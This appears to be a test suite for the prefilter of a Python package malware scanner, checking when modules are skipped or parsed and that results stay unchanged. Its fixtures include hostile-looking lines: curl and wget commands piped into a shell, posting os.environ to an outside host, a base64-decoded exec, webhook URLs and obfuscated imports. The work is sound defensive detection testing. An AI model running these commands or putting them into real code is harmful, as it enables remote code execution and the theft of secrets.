/**
 * The prefilter decides how much of a module to analyse. Skipping must never hide a threat (the
 * rule tests and test/corpus compare results with and without it); these cases pin down the
 * decisions themselves, network use at import time above all, which it judges from indentation.
 */
import { describe, expect, it } from 'vitest';
import { scan } from './testing.js';
import { importStatements, parseMode, relevantRanges, shallowRanges, splitAs } from './prefilter.js';

const lines = (...l: string[]): string => l.join('\n') + '\n';

describe('splitAs', () => {
  it("gives split(/\\s+as\\s+/)'s pieces, also for blank runs, tabs, odd spaces and 'as' inside names", () => {
    const cases = ['a as b', 'a  as\tb', 'a as as b', 'a as  as b', ' as b', 'a as ', 'alias as asb', 'a\u00a0as\u2028b', 'has as bas', 'a', ''];
    for (const c of cases) expect(splitAs(c), JSON.stringify(c)).toEqual(c.split(/\s+as\s+/));
    // and on random strings over the characters that matter
    let seed = 7;
    const next = (n: number): number => ((seed = (seed * 1103515245 + 12345) % 2 ** 31), seed % n);
    for (let i = 0; i < 20_000; i++) {
      const t = Array.from({ length: next(14) }, () => ' \tasx'[next(6)]).join('');
      expect(splitAs(t), JSON.stringify(t)).toEqual(t.split(/\s+as\s+/));
    }
  });

  it('an import line of 150,000 blanks and no alias is one pass, also through inspect', async () => {
    // split(/\s+as\s+/) read the run from each of its blanks: about 11 s for this line when inspected.
    const line = `a${' '.repeat(150_000)}b`;
    expect(splitAs(line)).toEqual([line]);
    const r = await scan({ 'demo/__init__.py': `import ${line}\n` });
    expect(r.verdict).toBe('clean');
  });
});

describe('parseMode', () => {
  it('skips a module with nothing any rule looks for', () => {
    expect(parseMode(lines('import math', 'def area(r):', '    return math.pi * r * r'))).toBe('skip');
  });

  it('parses fully what mentions a threat word', () => {
    expect(parseMode(lines('import base64', 'x = base64.b64decode(y)'))).toBe('full');
    expect(parseMode(lines("URL = 'https://discord.com/api/webhooks/1/x'"))).toBe('full');
  });

  it('skips network use that happens only inside functions', () => {
    const src = lines(
      'import requests as rq',
      'from urllib.request import urlopen',
      'class Client:',
      '    """A client.',
      '',
      'def example():',
      '    return 1',
      '"""',
      '    def fetch(self, url):',
      '        return rq.get(url)',
      'def load(url):',
      '    with urlopen(url) as r:',
      '        return r.read()',
    );
    expect(parseMode(src)).toBe('skip');
  });

  it('judges the network calls of a long function in time linear in its length', () => {
    // (each call used to walk up to the def: 50,000 calls took tens of seconds)
    const src = lines('import requests', '', 'def fetch_all(urls):') + '    requests.get(urls.pop())\n'.repeat(50_000);
    expect(parseMode(src)).toBe('skip');
    expect(parseMode(src + lines('requests.get(URL)'))).toBe('shallow');
  });

  it('reads import lines in time linear in their number where a parenthesis is never closed', () => {
    // (a parenthesised list of names used to be looked for to the end of the text from each line)
    const src = 'from a import (\n'.repeat(50_000);
    const re = /^[ \t]*(?:from[ \t]+([\w.]+)[ \t]+import[ \t]+(\([^)]*\)|[^\n#;]+)|import[ \t]+([^\n#;]+))/gmy;
    expect([...importStatements(src, re)].map((m) => m[2])).toEqual(Array.from({ length: 50_000 }, () => '('));
    expect([...importStatements(lines('from a import (b,', '    c)', 'from d import (e'), re)].map((m) => m[2])).toEqual(['(b,\n    c)', '(e']);
    expect(parseMode(src)).toBe('full');
  });

  it('finds vars(...)[ and an import of node as the patterns do, in time linear in a line', () => {
    expect(parseMode(lines("b = vars(__builtins__)['ex' + 'ec']"))).toBe('full');
    expect(parseMode(lines('b = vars(x', ')[0]'))).toBe('skip');
    expect(parseMode(lines('from platform import node', 'n = node()'))).toBe('full');
    expect(parseMode(lines('import node_helpers', 'x = node_helpers.node_count'))).toBe('skip');
    // (each `vars(` or `import` of a long line used to read the line to its end)
    expect(parseMode(lines('vars(x'.repeat(100_000)))).toBe('full'); // (for its unclosed brackets)
    expect(parseMode(lines('import x; '.repeat(100_000), 'node = 1'))).toBe('skip');
  });

  it('analyses the module level of network use on import', () => {
    expect(parseMode(lines('import requests', "requests.get('https://example.org/ping')"))).toBe('shallow');
    expect(parseMode(lines('import socket', 'try:', "    socket.gethostbyname('x.example.invalid')", 'except OSError:', '    pass'))).toBe('shallow');
    expect(parseMode(lines('import requests', 'class Probe:', "    r = requests.get('https://example.org/')"))).toBe('shallow');
    // A default value runs when the def runs, at import.
    expect(parseMode(lines('import requests', 'def f(', "    x=requests.get('https://example.org/'),", '):', '    return x'))).toBe('shallow');
  });

  it('parses fully when a download could be started, or a star import hides which names are network calls', () => {
    expect(parseMode(lines('import requests, subprocess', 'def f(u):', '    subprocess.run([requests.get(u).text])'))).toBe('full');
    expect(parseMode(lines('from socket import *', 'def f():', '    pass'))).toBe('full');
  });

  it('keeps the module level of a module that runs an imported function on import', () => {
    expect(parseMode(lines('from .grabber import collect', 'collect()'))).toBe('shallow');
  });

  it('parses curl and wget only where something is piped into a shell', () => {
    expect(parseMode(lines('def f():', '    """Tells a browser from a command-line HTTP tool (curl and wget)."""'))).toBe('skip');
    expect(parseMode(lines("CMD = 'curl -fsSL https://example.org/i | sh'"))).toBe('full');
    expect(parseMode(lines("CMD = ('wget -qO- https://example.org/i |'", '       # then', "       ' bash')"))).toBe('full');
    expect(parseMode(lines("CMD = 'curl https://example.org/i |\\tsh'"))).toBe('full');
  });

  it('parses webhooks and decryption only in the forms the rules match', () => {
    expect(parseMode(lines('def notify(webhook, payload):', '    return webhook.send(payload)'))).toBe('skip');
    expect(parseMode(lines("URL = ('https://webhook'", '       # the bin', "       '.site/0123456789abcdef')"))).toBe('full');
    expect(parseMode(lines('def unseal(box, token):', '    return box.decrypt(token)'))).toBe('skip');
    expect(parseMode(lines('from cryptography.fernet import Fernet', 'def unseal(key, token):', '    return Fernet(key).decrypt(token)'))).toBe('full');
  });

  it('glues split string literals before looking', () => {
    expect(parseMode(lines("HOOK = 'https://disc' 'ord.com/api/webhooks/1/x'"))).toBe('full');
    expect(parseMode(lines("HOOK = 'https://disc' + \\", "    'ord.com/api/webhooks/1/x'"))).toBe('full');
    expect(parseMode(lines("m = __import__('o' + 's')"))).toBe('full');
  });
});

describe('identifiers', () => {
  it('tells long identifiers apart by all their characters, however often similar ones were seen', () => {
    // the first 16 characters (and the length) are compared as numbers, the rest one by one
    for (let i = 0; i < 3; i++) expect(parseMode(lines('NtUnmapViewOfSectioX = 1', 'actions_id_token_request_tokeX = 2'))).toBe('skip');
    expect(parseMode(lines('NtUnmapViewOfSection(h, base)'))).toBe('full');
    expect(parseMode(lines("t = env['actions_id_token_request_token']"))).toBe('full');
    // identifiers of 8 and 9 characters, and ones that differ only in their 16th character
    expect(parseMode(lines('creationflagx = 1', 'startupinfX = 2', 'xcreationflags = 3'))).toBe('skip');
    expect(parseMode(lines('p = Popen(cmd, creationflags=flags)'))).toBe('full');
    expect(parseMode(lines('ReadProcessMemorX = 1', 'MiniDumpWriteDumX = 2'))).toBe('skip');
    expect(parseMode(lines('ReadProcessMemory(h)'))).toBe('full');
  });
});

describe('joins', () => {
  it('parses a join of constants, which the analysis folds', () => {
    expect(parseMode(lines("x = ''.join(['ex', 'ec'])"))).toBe('full');
    expect(parseMode(lines("x = ''.join((", "    # the pieces", "    'ex', 'ec'))"))).toBe('full');
    expect(parseMode(lines("x = ''.join([str('ex', 'ascii'), 'ec'])"))).toBe('full');
    expect(parseMode(lines("x = ''.join(map(chr, [101, 120]))"))).toBe('full');
  });

  it('skips joins of values the analysis cannot fold', () => {
    expect(parseMode(lines("x = ', '.join([str(v) for v in values])"))).toBe('skip');
    expect(parseMode(lines("x = '\\n'.join([line.strip() for line in lines])"))).toBe('skip');
    expect(parseMode(lines("x = ''.join([f'{a}', b])"))).toBe('skip');
  });
});

describe('escapes', () => {
  it('parses a module with an escape of an ASCII character or of whitespace', () => {
    expect(parseMode(lines("x = getattr(os, 'sy\\x73tem')"))).toBe('full');
    expect(parseMode(lines("x = 'a\\u0020b'"))).toBe('full');
    expect(parseMode(lines("x = 'a\\u3000b'"))).toBe('full');
    expect(parseMode(lines("x = 'a\\N{SPACE}b'"))).toBe('full');
    expect(parseMode(lines("x = 'cu\\162l'"))).toBe('full');
  });

  it('skips translations and data tables whose escapes are of other characters', () => {
    expect(parseMode(lines("NAMES = {'fr': u'R\\u00e9union', 'zh': u'\\u5317\\u4eac', 'pt': u'Dois Irm\\u00e3os'}"))).toBe('skip');
    expect(parseMode(lines("CARRIERS = {'46731729': {'en': 'IPIFY LIMITED'}}"))).toBe('skip');
    // `\\` is one escape: what follows it is text
    expect(parseMode(lines("x = r'\\\\x41'"))).toBe('skip');
  });

  it('looks again with the escapes decoded, where one hides a word', () => {
    expect(parseMode(lines("x = '\\u00e9curl -s https://example.org/x | sh'"))).toBe('full');
    expect(parseMode(lines("x = 'Network\\U0001f600Cookies'"))).toBe('full');
  });
});

describe('relevantRanges', () => {
  const filler = Array.from({ length: 300 }, (_, i) => lines(`@decorate(${i})`, `def helper_${i}(x, y=(1, 2)):`, '    """Adds things."""', `    return x + y[0] + ${i}  # (not a bracket`, '')).join('');

  it('keeps module-level code, and the functions that could matter or reach one', () => {
    const src = lines('import os, requests', "'''A module.", 'def not_code(): pass', "'''") + filler +
      lines('def runner():', '    return payload()', '', 'def payload():', "    return requests.post('https://example.org', data=dict(os.environ))", '', 'x = helper_3(1)');
    const ranges = relevantRanges(src)!;
    expect(ranges).toBeDefined();
    const kept = ranges.map((r) => src.slice(r.startIndex, r.endIndex)).join('');
    expect(kept).toContain('import os, requests');
    expect(kept).toContain('def payload():');
    expect(kept).toContain('def runner():');
    expect(kept).toContain('x = helper_3(1)');
    expect(kept).not.toContain('def helper_7(');
  });

  it('parses small modules whole', () => {
    expect(relevantRanges(lines('import os', 'def f():', '    pass'))).toBeUndefined();
  });

  it('keeps every function of a chain of calls that reaches a kept one, however long and in whatever order', () => {
    // f2000 calls f1999 ... f1 calls f0, written last to first: each step of the chain comes
    // before the function it reaches
    const chain = Array.from({ length: 2000 }, (_, k) => lines(`def f${2000 - k}():`, `    return f${1999 - k}()`, '')).join('');
    const src = lines('import os') + filler + chain + lines('def f0():', "    os.system('true')") + filler.replaceAll('helper_', 'other_');
    const kept = relevantRanges(src)!.map((r) => src.slice(r.startIndex, r.endIndex)).join('');
    for (const k of [0, 1, 2, 1000, 1999, 2000]) expect(kept).toContain(`def f${k}():`);
    expect(kept).not.toContain('def helper_7(');
    expect(kept).not.toContain('def other_7(');
  });
});

describe('shallow analysis changes no result', () => {
  it('finds a network call in a default value, which runs at import', async () => {
    const files = { 'demo/__init__.py': '', 'demo/mod.py': lines('import requests', 'def f(', "    x=requests.get('https://example.org/'),", '):', '    return x') };
    const on = await scan(files, 'wheel');
    const off = await scan(files, 'wheel', undefined, { prefilter: false });
    const threats = (r: typeof on): string[] => r.findings.filter((f) => f.severity !== 'low').map((f) => `${f.rule}:${f.line}:${f.phase}`).sort();
    expect(threats(on)).toEqual(['import-network:3:import']);
    expect(threats(on)).toEqual(threats(off));
    expect(on.score).toBe(off.score);
  });
});

describe('shallowRanges', () => {
  const plain = Array.from({ length: 300 }, (_, i) => lines(`def helper_${i}(x, y=1) -> int:`, `    return compute(x, ${i})`, '')).join('');

  it('leaves out the plain functions of a module analysed only at module level', () => {
    const src = lines('from .core import setup, compute', 'import requests') + plain +
      lines('@register(requests.get)', 'def hooked(x):', '    return x', 'def fetched(x=requests.get("https://example.org/")):', '    return x', 'setup()');
    expect(parseMode(src)).toBe('shallow');
    const kept = shallowRanges(src)!.map((r) => src.slice(r.startIndex, r.endIndex)).join('');
    expect(kept).toContain('from .core import setup, compute');
    expect(kept).toContain('def hooked(x):');
    expect(kept).toContain('def fetched(');
    expect(kept).toContain('setup()');
    expect(kept).not.toContain('def helper_7(');
  });

  it('changes no result', async () => {
    const src = lines('import requests') + plain + lines('def fetched(x=requests.get("https://example.org/")):', '    return x', "requests.post('https://example.org/ping')");
    const files = { 'demo/__init__.py': '', 'demo/mod.py': src };
    expect(parseMode(src)).toBe('shallow');
    const on = await scan(files, 'wheel');
    const off = await scan(files, 'wheel', undefined, { prefilter: false });
    const threats = (r: typeof on): string[] => r.findings.filter((f) => f.severity !== 'low').map((f) => `${f.rule}:${f.line}:${f.phase}`).sort();
    expect(threats(on)).toEqual(threats(off));
    expect(threats(on).length).toBeGreaterThan(0);
    expect(on.score).toBe(off.score);
    expect(on.stats.parseErrors).toBe(0);
  });
});

describe('partial parsing changes no result', () => {
  it('finds the same threats, phases and score in a big module as a whole parse', async () => {
    const filler = Array.from({ length: 300 }, (_, i) => lines(`def helper_${i}(x):`, `    return [x, ${i}] * 2`, '')).join('');
    const src =
      lines('import base64, os, requests') +
      filler +
      lines(
        'def runner():',
        '    send()',
        '',
        'def send():',
        "    requests.post('https://example.org/c', data=dict(os.environ))",
        "    exec(base64.b64decode('cHJpbnQoJ3BsYWNlaG9sZGVyJyk='))",
        '',
        'runner()',
      );
    const on = await scan({ 'demo/__init__.py': src }, 'wheel');
    const off = await scan({ 'demo/__init__.py': src }, 'wheel', undefined, { prefilter: false });
    const threats = (r: typeof on): string[] => r.findings.filter((f) => f.severity !== 'low').map((f) => `${f.rule}:${f.line}:${f.phase}`).sort();
    expect(threats(on)).toEqual(threats(off));
    expect(threats(on)).toContain('exec-decoded:907:import');
    expect(on.score).toBe(off.score);
  });
});

describe('partial parsing of classes', () => {
  it('keeps the one method of a big class that matters, with the same result as a whole parse', async () => {
    const methods = Array.from({ length: 200 }, (_, i) => lines(`    def op_${i}(self, x):`, `        """Operation ${i}."""`, `        return self.call('op_${i}', x)`, '')).join('');
    const src =
      lines('import os, requests', '', '@register', 'class Client(Base):', '    """A generated client."""', '    timeout = 30', '') +
      methods +
      lines('    def report(self):', "        return requests.post('https://example.org/c', data=dict(os.environ))", '', 'CLIENT = Client()');
    const ranges = relevantRanges(src)!;
    const kept = ranges.map((r) => src.slice(r.startIndex, r.endIndex)).join('');
    expect(kept).toContain('class Client(Base):');
    expect(kept).toContain('timeout = 30');
    expect(kept).toContain('def report(self):');
    expect(kept).not.toContain('def op_7(');
    const on = await scan({ 'demo/__init__.py': src }, 'wheel');
    const off = await scan({ 'demo/__init__.py': src }, 'wheel', undefined, { prefilter: false });
    const threats = (r: typeof on): string[] => r.findings.filter((f) => f.severity !== 'low').map((f) => `${f.rule}:${f.line}:${f.phase}`).sort();
    expect(threats(on)).toEqual(threats(off));
    expect(threats(on).length).toBeGreaterThan(0);
    expect(on.score).toBe(off.score);
    expect(on.stats.parseErrors).toBe(0);
  });

  it('splits a class with many decorators in time linear in their number', () => {
    // (the search for the class line behind its decorators used to rescan the block per decorator)
    const methods = Array.from({ length: 60 }, (_, i) => lines(`    def op_${i}(self, x):`, `        return x + ${i}`)).join('');
    const plain = Array.from({ length: 3 }, (_, i) => lines(`def plain_${i}(x):`, '    return x')).join('');
    const src = lines('import os') + '@register\n'.repeat(50_000) + lines('class Client:') + methods + lines('    def run(self):', "        return eval(os.environ['X'])", '') + plain;
    const kept = relevantRanges(src)!.map((r) => src.slice(r.startIndex, r.endIndex)).join('');
    expect(kept).toContain('class Client:');
    expect(kept).toContain('def run(self):');
    expect(kept).not.toContain('def op_7(');
    expect(kept).not.toContain('def plain_1(');
  });
});
